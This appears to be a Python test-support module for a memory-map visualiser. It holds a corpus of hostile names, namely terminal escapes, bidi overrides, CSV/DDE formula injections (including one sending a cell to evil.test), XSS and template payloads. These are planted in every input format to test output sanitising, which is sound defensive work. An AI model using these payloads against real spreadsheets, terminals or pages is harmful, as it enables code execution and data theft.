"""Names that mean harm, inputs of every kind that hold them, and what must not come of them.

A process may call its files whatever it likes.  ``CORPUS`` has a name for each thing that somebody
may do to whoever reads an output: a terminal, a browser, a spreadsheet, a notebook, a template.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import forkviz
from forkviz.core.captures.capture import Capture, Process
from forkviz.core.formats.cells import DANGER
from forkviz.core.image import Image
from forkviz.core.region import Kind, Region, State, Use
from forkviz.core.space import AddressSpace
from forkviz.core.text import visible
from forkviz.hosts.live.pe_writer import build_dll
from forkviz.machine.dll import Dll, DllKind
from forkviz.readers import render_images, write_bundle
from forkviz.readers.own.region_csv import dump_region_csv
from forkviz.scenarios.scenario import Scenario
from tests.support.caveats import written

__all__ = [
    "CORPUS",
    "INPUTS",
    "SHIPPED",
    "VERY_LONG",
    "capture",
    "formulas",
    "input_files",
    "scenario",
    "unseen",
    "unseen_but_colours",
]

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = tuple(
    sorted(p for p in (ROOT / "tests" / "data" / "hostile").iterdir() if p.suffix != ".md")
)
CLOBBERED = ROOT / "data" / "captures" / "cygwin-3.0.7-perl-clobbered"
DUMP = ROOT / "data" / "minidump" / "google__breakpad__tiny-exe-with-cet-xsave.dmp"

CORPUS = {
    "clear": "\x1b[2J\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "bell": "\x07",
    "c1": "\x9b31m\x9d0;owned\x9c",
    "override": "\u202egnp.lld",
    "isolate": "\u2066a\u2069\u2067b\u2069",
    "zero-width": "a\u200bb\u200d\u2060\ufeff",
    "unseen": "a\u034f\u3164\ufe0f\U000e0100",
    "tag": "\U000e0041\U000e007f",
    "nul": "a\0b",
    "del": "\x7f\x08\x08",
    "command": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://evil.test?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "a\n=1+1\r\nhint: rm",
    "quote": "'=1+1",
    "quotes": 'a","=1+1","b',
    "semicolon": "a;=1+1",
    "script": "</script><script>window.owned=1</script>",
    "comment": "<!--<script>",
    "cdata": "]]>",
    "image": "<img src=x onerror=window.owned=2>",
    "attribute": "\"' onmouseover=window.owned=3 x='",
    "entity": "&lt;b&gt;&#x1b;",
    "separators": "a\u2028b\u2029c\x85d",
    "surrogate": "a\ud800b\udce9",
    "long": "x" * 2000,
    "long and unseen": "\u202e" * 300,
    "percent": "%(x)s%s%n%99999999d",
    "braces": "{x}{0.__class__}{{constructor.constructor('window.owned=4')()}}",
    "template": "${window.owned=5}`${1}`",
    "rich": "[red]a[/red][link=http://evil.test]b[/link]:smile:",
    "bokeh": "@name $index @{name}{safe}",
    "markdown": "[a](javascript:window.owned=6) ![](x) `b` $$x$$ **c**",
    "python": "__proto__",
    "backslash": "a\\x1b[31m\\\\u0041\\",
}


#: As a name of its own: every step of every channel repeats it.
VERY_LONG = "y" * 100_000


def scenario(names: dict[str, str] = CORPUS) -> Scenario:
    """A fork whose every text is one of *names*: DLLs, imports, paths, labels, notes, title."""
    texts = list(names.values())
    dlls = tuple(
        Dll(
            f"{text}{i}.dll",
            DllKind.LOAD,
            0x400000 + i * 0x20000,
            0x10000,
            0x400000 + (i if i else len(texts)) * 0x20000,
            (f"{text}kernel32.dll",),
            path=f"{text}/{i}.dll",
        )
        for i, text in enumerate(texts)
    )
    taken = tuple(
        Region(
            0x2000000 + i * 0x20000,
            0x2010000 + i * 0x20000,
            State.COMMITTED,
            Kind.PRIVATE,
            name=text,
            protect=text,
        )
        for i, text in enumerate(texts)
    )
    blocking = taken[0]._replace(start=dlls[0].base, end=dlls[0].base + 0x10000)
    return Scenario(
        texts[0], 32, dlls, parent=taken, child=(*taken[1:], blocking), notes=tuple(texts)
    )


def capture(names: dict[str, str] = CORPUS) -> Capture:
    """A parent and its child whose regions, files, caveats and images are called so."""
    texts = list(names.values())
    regions = [
        Region(
            0x10000000 + i * 0x20000,
            0x10010000 + i * 0x20000,
            State.COMMITTED,
            (Kind.IMAGE, Kind.PRIVATE)[i % 2],
            0x10000000 + i * 0x20000,
            text,
            text,
            (Use.IMAGE, Use.HEAP)[i % 2],
            line=i + 1,
        )
        for i, text in enumerate(texts)
    ]
    image = [
        Image(text, 0x10000000 + i * 0x20000, 0x10000, imports=(text,))
        for i, text in enumerate(texts)
        if 0 < len(text) < 32768
    ]
    moved = [
        region._replace(
            start=region.start + 0x10000000,
            end=region.end + 0x10000000,
            allocation=region.base + 0x10000000,
        )
        for region in regions[::2]
    ]
    parent = Process(
        AddressSpace(64, regions), "parent", texts[1], name=texts[2], caveats=written(*texts)
    )
    child = Process(AddressSpace(64, moved), "child", texts[3])
    return Capture(texts[0], parent, child, tuple(image), caveats=written(*texts))


# -- inputs ---------------------------------------------------------------------------------------


def _toml(folder: Path) -> Path:
    return forkviz.save(scenario(), folder / "x.toml")


def _trace(folder: Path) -> Path:
    return forkviz.save(forkviz.fork(scenario()), folder / "x.jsonl")


def _maps(folder: Path) -> Path:
    """Cygwin's, each name in a row of its own, in whatever bytes."""
    rows = [
        f"{0x10000000 + i * 0x20000:08X}-{0x10010000 + i * 0x20000:08X} r-xp 00000000 4300:0000 1"
        f"{' ' * 10}/{_in_a_row(text)}"
        for i, text in enumerate(CORPUS.values())
    ]
    return _written(folder / "x.maps", "".join(f"{row}\n" for row in rows))


def _linux(folder: Path) -> Path:
    rows = [
        f"{0x10000000 + i * 0x20000:08x}-{0x10010000 + i * 0x20000:08x} r-xp 00000000 08:01 1"
        f"{' ' * 10}/{_in_a_row(text)}"
        for i, text in enumerate(CORPUS.values())
    ]
    return _written(folder / "y.maps", "".join(f"{row}\n" for row in rows))


def _images(folder: Path) -> Path:
    text = render_images(capture().images)
    return _written(folder / "images.json", text.encode("utf-8", "replace").decode())


def _strace(folder: Path) -> Path:
    """A real log, in which the DLL of the message and its program are called so."""
    log = (CLOBBERED / "fork.strace").read_text(encoding="utf-8")
    lines = log.split("\n")
    found = next(i for i, line in enumerate(lines) if "child_info_fork::abort" in line)
    lines[found:found] = [
        lines[found].replace("POSIX.dll", _in_a_row(text)) for text in CORPUS.values()
    ]
    at = next(i for i, line in enumerate(lines) if " loaded " in line)
    lines[at:at] = [
        f"--- Process 1160 loaded \\??\\C:\\{_in_a_row(text)}.dll "
        f"at {0x5F0000000 + i * 0x20000:016x}"
        for i, text in enumerate(CORPUS.values())
    ]
    return _written(folder / "x.strace", "\n".join(lines))


def _messages(folder: Path) -> Path:
    lines = [
        f"1 [main] {_in_a_row(text)[:40]} 451 child_info_fork::abort: address space needed by "
        f"'{_in_a_row(text)[:100]}' (0x3FD3A0000) is already occupied"
        for text in CORPUS.values()
    ]
    return _written(folder / "x.txt", "\n".join(lines) + "\n")


def _csv(folder: Path) -> Path:
    rows = "".join(f"{row}\n" for row in dump_region_csv(capture()))
    return _written(folder / "x.csv", rows)


def _bundle(folder: Path) -> Path:
    write_bundle(capture(), folder / "bundle")
    return folder / "bundle"


def _dump(folder: Path) -> Path:
    """A real dump, whose modules are called otherwise."""
    data = DUMP.read_bytes()
    for old, new in (
        ("KERNEL32.DLL", "\x1b[2J\u202e=\x9b\ud800\0\n@+"),
        ("KERNELBASE.dll", "=cmd|' /C x'!0"),
    ):
        assert len(old) == len(new)
        data = data.replace(old.encode("utf-16-le"), new.encode("utf-16-le", "surrogatepass"))
    (folder / "x.dmp").write_bytes(data)
    return folder / "x.dmp"


def _dlls(folder: Path) -> Path:
    """A folder of DLLs: a file system takes every name but those with a slash or a NUL."""
    place = folder / "=dlls\x1b[31m\u202e"
    place.mkdir()
    dll = build_dll("a.dll", 0x400000, 0x8000, ("@b.dll",), bits=32)
    for i, text in enumerate(CORPUS.values()):
        name = text.replace("/", "").replace("\0", "")[:60].encode("utf-8", "replace").decode()
        (place / f"{name}{i}.dll").write_bytes(dll)
    return place


def _in_a_row(text: str) -> str:
    """*text* as a row of a file can hold it."""
    return text.replace("\n", " ").replace("\r", " ").replace("\0", " ")


def _written(place: Path, text: str) -> Path:
    place.write_text(text, encoding="utf-8", errors="surrogatepass", newline="\n")
    return place


#: Every kind of input that can hold a name, and what writes one into a folder.
INPUTS: dict[str, Callable[[Path], Path]] = {
    "toml": _toml,
    "trace": _trace,
    "cygwin maps": _maps,
    "linux maps": _linux,
    "images.json": _images,
    "strace": _strace,
    "messages": _messages,
    "csv": _csv,
    "bundle": _bundle,
    "minidump": _dump,
    "dlls": _dlls,
}


# -- what must not come of them -------------------------------------------------------------------


def unseen(text: str) -> set[str]:
    """The characters of *text* that are invisible, or that a terminal acts on; lines may end."""
    return {c for c in text if c != "\n" and visible(c) != c}


_DRAWN = re.compile(r"\x1b\[[\d;]*m")


def unseen_but_colours(text: str) -> set[str]:
    """The same, where the program itself draws in colours."""
    return unseen(_DRAWN.sub("", text))


def formulas(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run; numbers are none."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # Other spreadsheets part a line at ;, whatever is in quotes.
    parts = [part for line in text.split("\n") for part in line.split(";")[1:]]
    parts += [part.lstrip('"') for part in parts]
    return [cell for cell in (*cells, *parts) if cell.startswith(tuple(DANGER))]


def input_files(folder: Path) -> dict[str, Path]:
    """An input of each kind, made in *folder*, and those that are kept as files."""
    made = {kind: make(folder) for kind, make in INPUTS.items()}
    return {**made, **{place.name: place for place in SHIPPED}}
